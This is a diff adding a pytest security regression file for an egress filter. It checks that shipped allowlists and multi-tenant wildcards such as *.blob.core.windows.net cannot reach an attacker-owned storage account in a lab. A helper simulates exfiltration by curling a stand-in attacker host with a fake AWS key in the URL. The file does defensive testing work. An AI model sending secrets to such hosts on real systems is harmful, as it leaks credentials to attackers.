@@ -1,0 +1,98 @@
+"""Issue 9, class 8: shipped defaults and multi-tenant wildcards.
+
+Anyone can create an Azure storage account, so a name below
+blob.core.windows.net is an attacker's as easily as GitHub's. The shipped
+runner allowlist (packaging/github-action/runner.list) and the presets must
+not allow such a name, and a wildcard over a public or multi-tenant suffix is
+a configuration error (daemon start, reload, `egressd check`) unless the line
+marks it `shared`. In the lab the attacker's storage account resolves to the
+attacker's recorder.
+"""
+import os
+import signal
+
+import pytest
+
+import lab as L
+
+TENANT = "evilstorage.blob.core.windows.net"   # lab.HOSTS: -> the attacker
+SHIPPED = {
+    "runner.list": os.path.join(L.REPO, "packaging", "github-action", "runner.list"),
+    "github-actions.list": os.path.join(L.REPO, "config", "presets", "github-actions.list"),
+}
+
+
+def shipped(name):
+    with open(SHIPPED[name]) as f:
+        return L.DEFAULT_ALLOW + "# ---- shipped: %s\n" % name + f.read()
+
+
+def fetch_tenant(lab, fam):
+    return lab.curl("https://%s/file?secret=AKIAIOSFODNN7EXAMPLE" % TENANT, "-" + fam,
+                    timeout=8)
+
+
+def test_tenant_resolves_to_attacker():
+    assert L.HOSTS[TENANT] == (L.ATTACKER4, L.ATTACKER6)
+
+
+@pytest.mark.parametrize("fam", ["4", "6"])
+@pytest.mark.parametrize("source", [
+    pytest.param("runner.list", marks=pytest.mark.xfail(strict=True, reason="leaks on main: runner.list allows *.blob.core.windows.net")),
+    "github-actions.list"])
+def test_shipped_list_does_not_reach_a_storage_tenant(anylab, source, fam):
+    e = anylab.start_egressd(allow=shipped(source))
+    r = fetch_tenant(anylab, fam)
+    assert r.returncode != 0, r.stdout
+    anylab.assert_attacker_got_nothing()
+    assert e.running()
+    # positive control: the lab's own entries still work beside the shipped list
+    ok = anylab.curl("https://updates.example.com/file", "-" + fam)
+    assert ok.returncode == 0 and ok.stdout == L.site_body("updates"), ok.stderr
+
+
+@pytest.mark.xfail(strict=True, reason="leaks on main: a multi-tenant wildcard is accepted")
+def test_unmarked_wildcard_is_refused_at_start(gwlab):
+    allow = L.DEFAULT_ALLOW + "*.blob.core.windows.net\n"
+    e = gwlab.write_conf(allow=allow)
+    p = e.cmd("check", "-c", e.conf)
+    assert p.returncode != 0, p.stdout
+    where = "%s/allow.d/lab.list:7" % gwlab.dir
+    assert where in p.stderr and "blob.core.windows.net" in p.stderr, p.stderr
+    assert "shared" in p.stderr, p.stderr   # the message says how to opt in
+    with pytest.raises(L.LabError):
+        e.start()
+    assert where in e.tail(), e.tail()
+    gwlab.assert_attacker_got_nothing()
+
+
+@pytest.mark.xfail(strict=True, reason="leaks on main: reload accepts *.core.windows.net")
+def test_reload_with_unmarked_wildcard_changes_nothing(gwlab):
+    e = gwlab.start_egressd()
+    with open(os.path.join(gwlab.dir, "allow.d", "lab.list"), "a") as f:
+        f.write("*.core.windows.net:443\n")   # covers blob.core.windows.net
+    e.proc.send_signal(signal.SIGHUP)
+    ev = e.wait_event(lambda x: x.get("event") == "error" and "reload" in x.get("detail", ""),
+                      what="the failed reload's error event")
+    assert any("lab.list:7" in d and "core.windows.net" in d
+               for d in ev.get("diagnostics", [])), ev
+    r = fetch_tenant(gwlab, "4")
+    assert r.returncode != 0, r.stdout
+    gwlab.assert_attacker_got_nothing()
+    ok = gwlab.curl("https://updates.example.com/file")
+    assert ok.returncode == 0 and ok.stdout == L.site_body("updates"), ok.stderr
+    assert e.running()
+
+
+@pytest.mark.xfail(strict=True, reason="main does not parse the shared word")
+@pytest.mark.parametrize("fam", ["4", "6"])
+def test_shared_mark_is_an_explicit_opt_in(gwlab, fam):
+    """Positive control: the lab would see the leak. `shared` says "I know"."""
+    e = gwlab.start_egressd(allow=L.DEFAULT_ALLOW + "*.blob.core.windows.net shared\n")
+    fetch_tenant(gwlab, fam)
+    rec = gwlab.attacker_records()
+    assert rec["total_bytes"] > 0, rec
+    ev = e.wait_event(lambda x: x.get("event") == "allow" and x.get("name") == TENANT,
+                      what="allow event for the tenant")
+    assert ev.get("rule", "").endswith("lab.list:7"), ev
+    assert e.running()
